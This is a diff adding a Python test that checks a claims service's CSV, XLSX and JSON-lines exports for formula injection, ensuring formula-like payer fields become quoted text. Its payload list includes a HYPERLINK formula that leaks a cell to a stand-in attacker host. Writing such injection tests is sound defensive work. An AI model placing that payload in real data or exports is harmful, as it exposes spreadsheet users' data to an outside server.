@@ -191,3 +191,49 @@ async def test_generate_to_csv_then_ingest_gives_the_same_drift_as_generating_to
     assert straight["drifts"], "the spike produced no drift event"
     assert via_file["drifts"] == straight["drifts"]
     assert via_file["alerts"] == straight["alerts"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1+1", "-2+3", "@SUM(A1)",
+            "=1+1;2"]  # fmt: skip
+
+
+async def test_exports_write_formulas_from_claims_as_text(
+    postgres_url: str, unique: str, tmp_path: Path
+) -> None:
+    """Payer ids and names that start like a formula: quoted in CSV (OWASP), text cells in
+    XLSX, unchanged in JSON lines."""
+    database_url = create_database(postgres_url, f"inject_{unique}")
+    await asyncio.to_thread(migrate_database, database_url)
+    engine = create_async_engine(database_url)
+    claims = [
+        claim_row({"claim_id": f"c{i}", "customer_id": "acme", "payer_id": text[:100],
+                   "payer_name": text, "cpt_code": "71046", "submitted_date": "2026-01-01",
+                   "decided_date": "2026-01-10", "outcome": "DENIED", "billed_amount": "100",
+                   "allowed_amount": "0", "denial_reason_codes": [text]}, 0, i)
+        for i, text in enumerate(FORMULAS)
+    ]  # fmt: skip
+    await PostgresWriter(engine).write([], [], claims)
+    await engine.dispose()
+    stack = ServiceStack("unused:9092", database_url, unique, tmp_path)
+    out = stack.cli("export", "claims", "--customer", "acme", "--quiet")
+    assert out.returncode == 0, out.stderr
+    rows = sorted(csv.DictReader(out.stdout.splitlines()), key=lambda r: r["claim_id"])
+    assert [r["payer_name"] for r in rows] == ["'" + text for text in FORMULAS]
+    assert [r["payer_id"] for r in rows] == ["'" + text[:100] for text in FORMULAS]
+    assert [r["denial_reason_codes"] for r in rows] == ["'" + text for text in FORMULAS]
+    assert {r["billed_amount"] for r in rows} == {"100.00"}  # numbers untouched
+
+    jsonl = tmp_path / "claims.jsonl"
+    assert stack.cli("export", "claims", "--customer", "acme", "--quiet", "--format", "jsonl",
+                     "-o", str(jsonl)).returncode == 0  # fmt: skip
+    names = sorted(json.loads(line)["payer_name"] for line in jsonl.read_text().splitlines())
+    assert names == sorted(FORMULAS)
+
+    book_path = tmp_path / "claims.xlsx"
+    assert stack.cli("export", "claims", "--customer", "acme", "--quiet", "--format", "xlsx",
+                     "-o", str(book_path)).returncode == 0  # fmt: skip
+    sheet = load_workbook(book_path)["Details"]
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("payer_name")] for row in sheet.iter_rows(min_row=2)]
+    assert sorted(c.value for c in cells) == sorted(FORMULAS)
+    assert {c.data_type for c in cells} == {"s"}  # text, never a formula ("f")
